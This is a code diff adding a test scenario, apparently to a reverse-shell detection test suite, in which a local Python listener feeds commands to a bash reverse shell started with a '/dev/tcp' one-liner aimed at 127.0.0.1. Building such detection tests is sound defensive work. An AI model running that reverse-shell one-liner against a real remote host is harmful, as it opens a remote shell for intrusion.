@@ -83,6 +83,26 @@ pub(super) const SCENARIOS: &[Scenario] = &[
         ))
         .expect(chain!("outbound", "1", "$shell", "4401",
             ("reverse_shell.process_list.0.network_connection_list.0.destination_ip_address", "127.0.0.1"))),
+    shell("R01b", "a peer that says all it has to say at once, and closes its side")
+        .prepare(script!(
+            r#"python3 -c '
+import socket, time
+server = socket.create_server(("", 4411))
+connection, _ = server.accept()
+connection.sendall(b"sleep 3; exit\n")
+connection.shutdown(socket.SHUT_WR)
+time.sleep(5)
+' > /dev/null 2>&1 &
+            await "grep -q :113B.*:0000.0A /proc/net/tcp""#
+        ))
+        .act(script!(
+            r#"act
+            bash -c "bash -i >& /dev/tcp/127.0.0.1/4411 0>&1" < /dev/null > /dev/null 2>&1 &
+            who shell 'bash -i'
+            await 'at $shell 0 socket:* && same $shell 0 $shell 1 && same $shell 1 $shell 2'
+            await 'grep -q ":113B 08" /proc/net/tcp'"#
+        ))
+        .expect(chain!("outbound", "1", "$shell", "4411")),
     shell("R02", "cat, sh and nc in a ring of a FIFO and two pipes")
         .prepare(script!("peer 4402; rm -f /tmp/r02; mkfifo /tmp/r02"))
         .act(script!(
